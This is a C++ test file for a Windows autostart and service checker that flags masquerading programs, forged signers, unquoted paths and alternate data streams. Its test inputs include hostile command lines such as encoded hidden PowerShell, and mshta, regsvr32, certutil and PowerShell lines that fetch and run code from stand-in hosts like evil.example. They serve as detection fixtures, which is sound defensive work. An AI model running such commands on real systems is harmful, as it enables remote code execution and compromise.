#include "judge/judge.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "judge/testing/fake_facts.h"

namespace wl {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::Not;
using testing::FakeEnvironment;
using testing::FakeFile;
using ::testing::HasSubstr;
using testing::FakeFacts;

const std::string kMicrosoftRoot(64, 'A');
const std::string kVendorRoot(64, 'B');
const std::string kPlantedRoot(64, 'C');

// The command rules as shipped.
std::string ShippedRules() {
  std::string text;
  std::vector<std::filesystem::path> parts;
  for (const auto& entry : std::filesystem::directory_iterator(WL_COMMAND_RULES_DIR)) parts.push_back(entry.path());
  std::sort(parts.begin(), parts.end());
  for (const auto& part : parts) {
    std::ifstream in(part, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    text += s.str();
  }
  return text;
}

class JudgeTest : public ::testing::Test {
 protected:
  JudgeTest() {
    tables.process = StringTable::FromText(
        "svchost.exe=@Host Process for Windows Services\n"
        "powershell.exe=@Windows PowerShell\n"
        "cmd.exe=@Windows Command Processor\n"
        "rundll32.exe=@Windows host process\n"
        "regsvr32.exe=@Registers COM DLLs\n"
        "mshta.exe=@HTML Application Host\n"
        "wscript.exe=@Windows Script Host\n"
        "certutil.exe=@Certificate utility\n"
        "notepad.exe=@Notepad\n"
        "q.exe=%q: a text tool\n"
        "nl.exe=%nl: a line numberer\n"
        "host.exe=%host: a lookup tool\n"
        "msblast.exe=$Blaster worm\n");
    tables.signers = StringTable::FromText(kMicrosoftRoot + "=Microsoft\n");
    tables.commands = StringTable::FromText(ShippedRules());
    for (const char* name : {"svchost.exe", "powershell.exe", "cmd.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe",
                             "wscript.exe", "certutil.exe", "notepad.exe", "kernel32.dll"})
      facts.AddFile(std::string("C:\\Windows\\System32\\") + name).company = "Microsoft Corporation";
  }

  Judgement Autostart(const std::string& command) { return Judge(tables, facts).Assess({command, Origin::Autostart}); }

  ReferenceTables tables;
  FakeFacts facts;
};

TEST_F(JudgeTest, TheShippedRulesAllRead) {
  const CommandRules rules = ParseCommandRules(tables.commands.Lines());
  EXPECT_EQ(rules.unreadable, 0u);
  EXPECT_GT(rules.rules.size(), 20u);
}

// The entries users found unflagged: each is flagged now, with its reason.
TEST_F(JudgeTest, WhatMalwareStartsIsFlagged) {
  auto encoded = Autostart("powershell.exe -nop -w hidden -enc SQBFAFgA");
  EXPECT_EQ(encoded.verdict, Verdict::Malicious);
  EXPECT_TRUE(encoded.flagged);
  EXPECT_THAT(encoded.reasons, Contains(HasSubstr("encoded PowerShell")));

  facts.AddFile("C:\\Users\\Public\\svchost.exe");
  auto masquerade = Autostart("C:\\Users\\Public\\svchost.exe");
  EXPECT_EQ(masquerade.verdict, Verdict::Suspicious);
  EXPECT_THAT(masquerade.reasons, Contains(HasSubstr("Named like the Windows program svchost.exe")));
  EXPECT_THAT(masquerade.reasons, Contains(HasSubstr("the Public folder")));

  facts.AddFile("C:\\zz\\q.exe");
  facts.AddFile("C:\\zz\\nl.exe");
  for (const char* path : {"C:\\zz\\q.exe", "C:\\zz\\nl.exe"}) {
    auto nameOnly = Autostart(path);
    EXPECT_EQ(nameOnly.verdict, Verdict::Unknown) << path;  // a name alone clears nothing
    EXPECT_TRUE(nameOnly.flagged) << path;
    EXPECT_EQ(nameOnly.signer, "(Not signed)");
  }
  facts.AddFile("C:\\Users\\me\\AppData\\Roaming\\Install\\Host.exe");
  auto rat = Autostart("C:\\Users\\me\\AppData\\Roaming\\Install\\Host.exe");
  EXPECT_EQ(rat.verdict, Verdict::Suspicious);
  EXPECT_THAT(VerdictText(rat), HasSubstr("Not signed, in the user's AppData folder"));

  auto missing = Autostart("C:\\gone\\x.exe -run");
  EXPECT_EQ(missing.verdict, Verdict::Suspicious);
  EXPECT_EQ(missing.signer, "(File not found)");
  EXPECT_EQ(VerdictText(missing), "(Suspicious) File not found");

  facts.AddFile("C:\\Program Files\\Old\\msblast.exe", SignatureState::Verified, "Someone", kVendorRoot);
  EXPECT_EQ(Autostart("\"C:\\Program Files\\Old\\msblast.exe\"").verdict, Verdict::Malicious);
}

TEST_F(JudgeTest, HostsAreJudgedByWhatTheyRun) {
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\x.dll");
  auto rundll = Autostart("rundll32.exe C:\\Users\\me\\AppData\\Local\\x.dll,Start");
  EXPECT_EQ(rundll.payload, "C:\\Users\\me\\AppData\\Local\\x.dll");
  EXPECT_EQ(rundll.judgedFile, rundll.payload);
  EXPECT_EQ(rundll.verdict, Verdict::Suspicious);
  EXPECT_THAT(rundll.reasons, Contains(HasSubstr("DLL export from a folder users can write")));

  EXPECT_EQ(Autostart("mshta.exe http://evil.example/a.hta").verdict, Verdict::Malicious);
  EXPECT_EQ(Autostart("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)").verdict,
            Verdict::Malicious);
  EXPECT_EQ(Autostart("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)").verdict,
            Verdict::Malicious);
  EXPECT_EQ(Autostart("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll").verdict, Verdict::Malicious);
  EXPECT_EQ(Autostart("certutil.exe -urlcache -split -f http://evil.example/a.exe C:\\x.exe").verdict,
            Verdict::Malicious);
  facts.AddFile("C:\\Users\\me\\AppData\\Roaming\\a.vbs");
  EXPECT_EQ(Autostart("wscript.exe //B C:\\Users\\me\\AppData\\Roaming\\a.vbs").verdict, Verdict::Suspicious);

  // cmd /c chains: each command is judged, the worst counts.
  auto chain = Autostart("cmd.exe /c start \"\" /min powershell -w hidden -c \"iex (iwr http://e.example/p)\"");
  EXPECT_EQ(chain.verdict, Verdict::Malicious);
  auto plain = Autostart("C:\\Windows\\System32\\cmd.exe /c C:\\Windows\\System32\\notepad.exe");
  EXPECT_EQ(plain.verdict, Verdict::Trusted);
  EXPECT_FALSE(plain.flagged);

  // An unquoted path that a planted program cuts short.
  facts.AddFile("C:\\Program Files\\Vendor\\app.exe", SignatureState::Verified, "Vendor Inc.", kVendorRoot);
  facts.AddFile("C:\\Program.exe");
  auto shadowed = Autostart("C:\\Program Files\\Vendor\\app.exe");
  EXPECT_EQ(shadowed.program, "C:\\Program.exe");
  EXPECT_THAT(shadowed.reasons, Contains(HasSubstr("unquoted path")));
}

TEST_F(JudgeTest, SignaturesDecideForVendorsAndAgainstForgeries) {
  facts.AddFile("C:\\Program Files\\Steam\\steam.exe", SignatureState::Verified, "Valve Corp.", kVendorRoot);
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\Vendor\\updater.exe", SignatureState::Verified, "Vendor Inc.",
                kVendorRoot);
  for (const char* path : {"\"C:\\Program Files\\Steam\\steam.exe\" -silent",
                           "C:\\Users\\me\\AppData\\Local\\Vendor\\updater.exe /check"}) {
    auto vendor = Autostart(path);
    EXPECT_EQ(vendor.verdict, Verdict::Trusted) << path;
    EXPECT_FALSE(vendor.flagged) << path;
  }
  EXPECT_EQ(Autostart("\"C:\\Program Files\\Steam\\steam.exe\"").signer, "(Verified) Valve Corp.");
  EXPECT_EQ(VerdictText(Autostart("\"C:\\Program Files\\Steam\\steam.exe\"")), "(Trusted) Valve Corp.");

  facts.AddFile("C:\\Program Files\\Steam\\broken.exe", SignatureState::Broken, "Valve Corp.", kVendorRoot);
  auto broken = Autostart("\"C:\\Program Files\\Steam\\broken.exe\"");
  EXPECT_EQ(broken.verdict, Verdict::Suspicious);
  EXPECT_EQ(broken.signer, "(Signature broken) Valve Corp.");

  // A signer named like Microsoft passes the verifier under a planted root;
  // only Signer.db's roots make it Microsoft.
  facts.AddFile("C:\\Program Files\\Fake\\mssvc.exe", SignatureState::Verified, "Microsoft Corporation", kPlantedRoot);
  auto forged = Autostart("\"C:\\Program Files\\Fake\\mssvc.exe\"");
  EXPECT_EQ(forged.verdict, Verdict::Suspicious);
  EXPECT_EQ(forged.signer, "(Signer not trusted) Microsoft Corporation");
  tables.signers = StringTable::FromText(kMicrosoftRoot + "=Microsoft\n" + kPlantedRoot + "=Microsoft\n");
  EXPECT_EQ(Autostart("\"C:\\Program Files\\Fake\\mssvc.exe\"").verdict, Verdict::Trusted);

  // Version information is the file's own word: claiming Microsoft without
  // Microsoft's signature is a reason, outside Windows' folders.
  facts.AddFile("C:\\Program Files\\Claims\\win.exe").company = "Microsoft Corporation";
  EXPECT_THAT(Autostart("\"C:\\Program Files\\Claims\\win.exe\"").reasons,
              Contains(HasSubstr("Says it is from Microsoft Corporation")));
  // Inside them it is what tells Windows' files where there are no catalogs…
  EXPECT_EQ(Autostart("C:\\Windows\\System32\\notepad.exe").verdict, Verdict::Trusted);
  // …and is not enough where there are.
  facts.catalogs = true;
  EXPECT_EQ(Autostart("C:\\Windows\\System32\\notepad.exe").verdict, Verdict::Suspicious);
  facts.AddFile("C:\\Windows\\System32\\notepad.exe", SignatureState::Verified, "Microsoft Windows", kMicrosoftRoot)
      .company = "Microsoft Corporation";
  auto catalogSigned = Autostart("C:\\Windows\\System32\\notepad.exe");
  EXPECT_EQ(catalogSigned.verdict, Verdict::Trusted);
  EXPECT_TRUE(catalogSigned.windowsFile);
  EXPECT_EQ(FileVerdictText(catalogSigned), "Windows System File");
}

TEST_F(JudgeTest, ServicesAreJudgedByTheirProgramOrServiceDll) {
  Judge judge(tables, facts);
  auto service = [&](const std::string& command, const std::string& dll = {}) {
    return judge.Assess({command, Origin::Service, false, dll});
  };
  facts.AddFile("C:\\Program Files\\Vendor\\svc.exe", SignatureState::Verified, "Vendor Inc.", kVendorRoot);
  EXPECT_FALSE(service("\"C:\\Program Files\\Vendor\\svc.exe\"").flagged);
  facts.AddFile("C:\\Program Files\\Vendor\\unsigned.exe");
  EXPECT_TRUE(service("\"C:\\Program Files\\Vendor\\unsigned.exe\"").flagged);

  auto cmd = service("%SystemRoot%\\System32\\cmd.exe /c powershell -w hidden -enc SQBFAFgA");
  facts.env["SystemRoot"] = "C:\\Windows";
  cmd = service("%SystemRoot%\\System32\\cmd.exe /c powershell -w hidden -enc SQBFAFgA");
  EXPECT_EQ(cmd.verdict, Verdict::Malicious);
  EXPECT_TRUE(cmd.flagged);

  facts.AddFile("C:\\zz\\evil.dll");
  auto hosted = service("C:\\Windows\\System32\\svchost.exe -k netsvcs", "C:\\zz\\evil.dll");
  EXPECT_EQ(hosted.payload, "C:\\zz\\evil.dll");
  EXPECT_EQ(hosted.judgedFile, "C:\\zz\\evil.dll");
  EXPECT_TRUE(hosted.flagged);
  EXPECT_EQ(hosted.signer, "(Not signed)");
  // Windows' own DLL in Windows' folder: not flagged.
  auto own = service("C:\\Windows\\System32\\svchost.exe -k netsvcs", "%SystemRoot%\\System32\\kernel32.dll");
  EXPECT_FALSE(own.flagged);
  EXPECT_EQ(own.verdict, Verdict::Trusted);
}

TEST_F(JudgeTest, EachFileIsVerifiedOncePerStamp) {
  Judge judge(tables, facts);
  facts.AddFile("C:\\Program Files\\A\\a.exe");
  facts.AddFile("C:\\Program Files\\B\\b.exe");
  std::vector<JudgeRequest> requests;
  for (int i = 0; i < 50; ++i) {
    requests.push_back({"\"C:\\Program Files\\A\\a.exe\" /n" + std::to_string(i), Origin::Autostart});
    requests.push_back({"\"C:\\Program Files\\B\\b.exe\"", Origin::Task});
  }
  const auto first = judge.AssessAll(requests);
  ASSERT_EQ(first.size(), requests.size());
  EXPECT_EQ(facts.signatureCalls.load(), 2);
  EXPECT_EQ(judge.Verifications(), 2u);
  judge.AssessAll(requests);
  EXPECT_EQ(facts.signatureCalls.load(), 2);
  // A changed file is verified again.
  facts.files[ComparablePath("C:\\Program Files\\A\\a.exe")].stamp.lastWrite = 2;
  judge.Assess(requests.front());
  EXPECT_EQ(facts.signatureCalls.load(), 3);

  Judge unsigned_(tables, facts, JudgeOptions{false});
  EXPECT_EQ(unsigned_.Assess(requests.front()).signer, "");
  EXPECT_EQ(facts.signatureCalls.load(), 3);
}

// The text of a path is not where the file is: "..", short names, trailing
// dots and streams are judged by the folder the file is in.
TEST_F(JudgeTest, PathsAreJudgedWhereTheFileIs) {
  facts.AddFile("C:\\Users\\Public\\Libraries\\svchost.exe");
  for (const char* text : {"C:\\Windows\\..\\Users\\Public\\Libraries\\svchost.exe",
                           "C:\\Windows\\System32\\..\\..\\Users\\Public\\Libraries\\svchost.exe",
                           "C:/Windows/./../Users/Public/Libraries/svchost.exe"}) {
    const Judgement j = Autostart(text);
    EXPECT_EQ(j.verdict, Verdict::Suspicious) << text;
    EXPECT_EQ(j.programPath, "C:\\Users\\Public\\Libraries\\svchost.exe") << text;
    EXPECT_FALSE(j.inWindowsFolders) << text;
    EXPECT_THAT(j.reasons, Contains("Written as a path in the Windows folders, but it names "
                                    "C:\\Users\\Public\\Libraries\\svchost.exe"));
    EXPECT_THAT(j.reasons, Contains(HasSubstr("Named like the Windows program svchost.exe")));
  }
  // A short name of a folder users can write, as the file system resolves it.
  facts.AddFile("C:\\Windows\\System32\\Tasks_Migrated\\x.exe").finalPath =
      "C:\\Windows\\System32\\Tasks_Migrated\\x.exe";
  facts.AddAlias("C:\\Windows\\System32\\TASKS_~1\\x.exe", "C:\\Windows\\System32\\Tasks_Migrated\\x.exe");
  const Judgement shortName = Autostart("C:\\Windows\\System32\\TASKS_~1\\x.exe");
  EXPECT_THAT(shortName.reasons, Contains(HasSubstr("a folder of Windows that users can write")));
  EXPECT_THAT(shortName.reasons, Contains(HasSubstr("but it names C:\\Windows\\System32\\Tasks_Migrated\\x.exe")));
  // Where the file is missing, the text made plain as Windows makes it, and
  // a short folder name expanded.
  const Judgement absent = Autostart("C:\\Windows\\..\\Temp. \\x.exe");
  EXPECT_EQ(absent.programPath, "C:\\Temp\\x.exe");
  EXPECT_FALSE(absent.inWindowsFolders);
  EXPECT_THAT(absent.reasons, Contains("Written as a path in the Windows folders, but it names C:\\Temp\\x.exe"));
  facts.folderAliases[ComparablePath("C:\\Windows\\TASKS_~2")] = "C:\\Windows\\Tasks";
  EXPECT_EQ(Autostart("C:\\Windows\\TASKS_~2\\gone.exe").programPath, "C:\\Windows\\Tasks\\gone.exe");
  // A folder an administrator linked elsewhere is judged where it leads,
  // without a reason of its own.
  facts.AddFile("C:\\Program Files\\Moved\\app.exe").finalPath = "D:\\Apps\\Moved\\app.exe";
  const Judgement linked = Autostart("\"C:\\Program Files\\Moved\\app.exe\"");
  EXPECT_EQ(linked.programPath, "D:\\Apps\\Moved\\app.exe");
  EXPECT_TRUE(linked.reasons.empty());
  // A stream is named, never opened: its reason names what holds it.
  const int opens = facts.opens;
  const Judgement stream = Autostart("C:\\Windows\\Tracing:x.dll");
  EXPECT_EQ(stream.verdict, Verdict::Suspicious);
  EXPECT_THAT(stream.reasons, ElementsAre("Runs from an alternate data stream of C:\\Windows\\Tracing"));
  EXPECT_EQ(stream.signer, "(Unreadable)");
  EXPECT_EQ(facts.opens, opens);
  EXPECT_THAT(Autostart("rundll32.exe C:\\Windows\\System32\\kernel32.dll:hidden,Run").reasons,
              Contains(HasSubstr("alternate data stream of C:\\Windows\\System32\\kernel32.dll")));
  // Made plain never above the root, never relative to this program's own
  // folder; addresses and drive-relative names are no streams.
  EXPECT_EQ(LexicalPath("C:\\..\\..\\Windows\\.\\x.exe . "), "C:\\Windows\\x.exe");
  EXPECT_EQ(LexicalPath("\\\\srv\\share\\..\\..\\x.exe"), "\\\\srv\\share\\x.exe");
  EXPECT_EQ(LexicalPath("\\\\?\\C:\\a\\..\\b"), "\\\\?\\C:\\a\\..\\b");
  EXPECT_EQ(StreamHostOf("http://evil.example:8080/a"), "");
  EXPECT_EQ(StreamHostOf("C:x.exe"), "");
  EXPECT_EQ(StreamHostOf("\\\\srv\\share\\a.exe:s"), "\\\\srv\\share\\a.exe");
  facts.AddFile("C:\\relative.exe");
  EXPECT_EQ(Autostart("relative.exe").verdict, Verdict::Suspicious);  // not found: no lookup in a current folder
}

TEST_F(JudgeTest, AFileChangedUnderTheSameSizeAndTimesIsJudgedAgain) {
  const Judge judge(tables, facts);  // kept for the run, as the window keeps it
  FakeFile& file = facts.AddFile("C:\\Program Files\\A\\a.exe", SignatureState::Verified, "Vendor", kVendorRoot);
  const JudgeRequest request("\"C:\\Program Files\\A\\a.exe\"");
  EXPECT_EQ(judge.Assess(request).verdict, Verdict::Trusted);
  EXPECT_EQ(judge.Assess(request).verdict, Verdict::Trusted);
  EXPECT_EQ(facts.signatureCalls.load(), 1);
  // Rewritten, its times set back: only the change time tells.
  file.signature.state = SignatureState::Broken;
  file.stamp.changeTime = 2;
  EXPECT_EQ(judge.Assess(request).verdict, Verdict::Suspicious);
  EXPECT_EQ(facts.signatureCalls.load(), 2);
  // Another file moved into its place: another identity.
  file.signature.state = SignatureState::Verified;
  file.stamp.changeTime = 1;
  file.id = 99;
  EXPECT_EQ(judge.Assess(request).verdict, Verdict::Trusted);
  // A file read while another program could write it is read again each time.
  file.held = false;
  file.id = 100;
  judge.Assess(request);
  judge.Assess(request);
  EXPECT_EQ(facts.signatureCalls.load(), 5);
  // One file under two names is read once.
  file.held = true;
  facts.AddAlias("C:\\PROGRA~1\\A\\a.exe", "C:\\Program Files\\A\\a.exe");
  judge.AssessAll({request, JudgeRequest("C:\\PROGRA~1\\A\\a.exe")});
  EXPECT_EQ(facts.signatureCalls.load(), 6);
}

TEST_F(JudgeTest, ASystemProgramsNameOutsideTheWindowsFoldersIsFlaggedWhateverSignsIt) {
  FakeFile& tool = facts.AddFile("C:\\Users\\Public\\Libraries\\svchost.exe", SignatureState::Verified,
                                 "Microsoft Corporation", kMicrosoftRoot);
  tool.originalFilename = "signtool.exe";
  const Judgement j = Autostart("C:\\Users\\Public\\Libraries\\svchost.exe -k netsvcs");
  EXPECT_EQ(j.verdict, Verdict::Suspicious);
  EXPECT_EQ(j.signer, "(Verified) Microsoft Corporation");
  EXPECT_THAT(j.reasons, Contains("Named like the Windows program svchost.exe, but not in the Windows folders"));
  EXPECT_THAT(j.reasons, Contains("signtool.exe renamed svchost.exe"));
  // Microsoft's programs that Windows installs outside its folder, where it installs them.
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", SignatureState::Verified,
                "Microsoft Corporation", kMicrosoftRoot)
      .originalFilename = "OneDrive.exe";
  EXPECT_EQ(Autostart("C:\\Users\\me\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background").verdict,
            Verdict::Trusted);
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\Temp\\OneDrive.exe", SignatureState::Verified,
                "Microsoft Corporation", kMicrosoftRoot);
  tables.process = StringTable::FromText("onedrive.exe=@OneDrive\n");
  EXPECT_EQ(Autostart("C:\\Users\\me\\AppData\\Local\\Temp\\OneDrive.exe").verdict, Verdict::Suspicious);
  // A renamed file of Windows in the Windows folders is shown, not flagged.
  FakeFile& renamed = facts.AddFile("C:\\Windows\\System32\\upd.exe", SignatureState::Verified,
                                    "Microsoft Windows", kMicrosoftRoot);
  renamed.originalFilename = "wuauclt.exe.mui";
  const Judgement inside = Autostart("C:\\Windows\\System32\\upd.exe");
  EXPECT_EQ(inside.verdict, Verdict::Trusted);
  EXPECT_EQ(inside.notes, std::vector<std::string>{"wuauclt.exe renamed upd.exe"});
}

TEST_F(JudgeTest, HostsAreKnownByWhatTheyAreUnderAnyName) {
  // A copy of PowerShell by its version information, one of rundll32 by its
  // contents (the hosts' own carry none here).
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\upd.exe", SignatureState::Verified, "Microsoft Windows",
                kMicrosoftRoot)
      .originalFilename = "PowerShell.EXE.MUI";
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\helper.exe").sha256 = "ab12";
  facts.hosts = {{"AB12", "rundll32.exe"}};
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\x.dll");
  const Judgement ps = Autostart("C:\\Users\\me\\AppData\\Local\\upd.exe -w hidden -enc SQBFAFgA");
  EXPECT_EQ(ps.verdict, Verdict::Malicious);
  EXPECT_THAT(ps.reasons, Contains("a copy of PowerShell named upd.exe"));
  EXPECT_THAT(ps.reasons, Contains(HasSubstr("encoded PowerShell")));
  const Judgement rundll = Autostart("C:\\Users\\me\\AppData\\Local\\helper.exe C:\\Users\\me\\AppData\\Local\\x.dll,Start");
  EXPECT_THAT(rundll.reasons, Contains("a copy of rundll32.exe named helper.exe"));
  EXPECT_EQ(rundll.payload, "C:\\Users\\me\\AppData\\Local\\x.dll");
  EXPECT_THAT(rundll.reasons, Contains(HasSubstr("DLL export from a folder users can write")));
  // In the Windows folders under another name: read as the host, not flagged for its name.
  facts.AddFile("C:\\Windows\\System32\\psh.exe").originalFilename = "powershell.exe";
  const Judgement inside = Autostart("C:\\Windows\\System32\\psh.exe -w hidden -enc SQBFAFgA");
  EXPECT_EQ(inside.verdict, Verdict::Malicious);
  EXPECT_THAT(inside.reasons, Not(Contains(HasSubstr("a copy of"))));
}

TEST_F(JudgeTest, AnotherUsersEntryIsExpandedInThatUsersEnvironment) {
  facts.env["LOCALAPPDATA"] = "C:\\Users\\admin\\AppData\\Local";
  facts.AddFile("C:\\Users\\admin\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", SignatureState::Verified,
                "Microsoft Corporation", kMicrosoftRoot);
  facts.AddFile("C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
  facts.AddFile("C:\\Users\\bob\\Tools\\sync.exe");
  FakeEnvironment& bob = facts.AddUser("S-1-5-21-1-2-3-1001");
  bob.env["LOCALAPPDATA"] = "C:\\Users\\bob\\AppData\\Local";
  bob.search = {"C:\\Windows\\System32", "C:\\Users\\bob\\Tools"};
  JudgeRequest request("%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDrive.exe /background", Origin::Task);
  EXPECT_EQ(Judge(tables, facts).Assess(request).verdict, Verdict::Trusted);
  request.owner = "S-1-5-21-1-2-3-1001";
  JudgeRequest bare("sync.exe", Origin::Task);
  bare.owner = request.owner;
  const auto both = Judge(tables, facts).AssessAll({request, bare});
  EXPECT_EQ(both[0].program, "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
  EXPECT_NE(both[0].verdict, Verdict::Trusted);
  EXPECT_EQ(both[1].program, "C:\\Users\\bob\\Tools\\sync.exe");
}

TEST_F(JudgeTest, OnlyTheMachinesRootsVerify) {
  facts.AddFile("C:\\Program Files\\V\\a.exe", SignatureState::Verified, "Vendor Inc.", kPlantedRoot);
  facts.userRoots = {kPlantedRoot};
  const Judgement user = Autostart("\"C:\\Program Files\\V\\a.exe\"");
  EXPECT_EQ(user.signer, "(Signer not trusted) Vendor Inc.");
  EXPECT_EQ(user.verdict, Verdict::Suspicious);
  EXPECT_THAT(user.reasons, ElementsAre("root only in a user's certificate store"));
  facts.userRoots.clear();
  facts.strayRoots = {kPlantedRoot};
  const Judgement none = Autostart("\"C:\\Program Files\\V\\a.exe\"");
  EXPECT_EQ(none.signer, "(Signer not trusted) Vendor Inc.");
  EXPECT_NE(none.verdict, Verdict::Trusted);
  // Signer.db's roots are pinned: trusted whatever store holds them.
  facts.strayRoots = {kMicrosoftRoot};
  facts.AddFile("C:\\Windows\\System32\\x.exe", SignatureState::Verified, "Microsoft Windows", kMicrosoftRoot);
  EXPECT_EQ(Autostart("C:\\Windows\\System32\\x.exe").verdict, Verdict::Trusted);
}

// Each name is looked up once in a scan, each file opened once; a folder
// that many lookups go to is listed once instead.
TEST_F(JudgeTest, AScanLooksEachNameUpOnce) {
  const Judge judge(tables, facts);
  std::vector<JudgeRequest> requests;
  for (int i = 0; i < 2000; ++i) {
    const std::string program = "C:\\Apps\\prog" + std::to_string(i) + ".exe";
    if (i % 2) facts.AddFile(program);
    requests.push_back({"\"" + program + "\" /run", Origin::Autostart});
    requests.push_back({"\"" + program + "\" /again", Origin::Autostart});
  }
  const int lookups = facts.lookups, opens = facts.opens;
  const auto judged = judge.AssessAll(requests);
  EXPECT_EQ(judged[1].verdict, Verdict::Suspicious);  // missing
  EXPECT_EQ(judged[2].verdict, Verdict::Unknown);     // present, unsigned
  EXPECT_LE(facts.lookups - lookups, 20);
  EXPECT_EQ(facts.listings, 1);
  EXPECT_EQ(facts.opens - opens, 1000);
  EXPECT_EQ(judge.Counts().opens, 1000u);
  // Names the listing cannot answer for are looked up.
  facts.AddFile("C:\\Apps\\\xC3\xA9t\xC3\xA9.exe");
  const int before = facts.lookups;
  requests.push_back({"C:\\Apps\\\xC3\x89T\xC3\x89.exe"});
  requests.push_back({"C:\\Apps\\PROG~1.EXE"});
  judge.AssessAll(requests);
  EXPECT_EQ(facts.lookups - before, 16 + 2);

  // Across the pages of one scan, nothing is asked twice…
  {
    const Judge::ScanScope scan(judge);
    judge.AssessAll({{"C:\\Windows\\System32\\cmd.exe /c notepad.exe"}});
    const int asked = facts.lookups + facts.opens;
    judge.AssessAll({{"C:\\Windows\\System32\\cmd.exe /c notepad.exe"}, {"notepad.exe"}});
    EXPECT_EQ(facts.lookups + facts.opens, asked);
  }
  // …and the next scan asks again.
  const int asked = facts.lookups;
  judge.Assess({"notepad.exe"});
  EXPECT_GT(facts.lookups, asked);
}

}  // namespace
}  // namespace wl
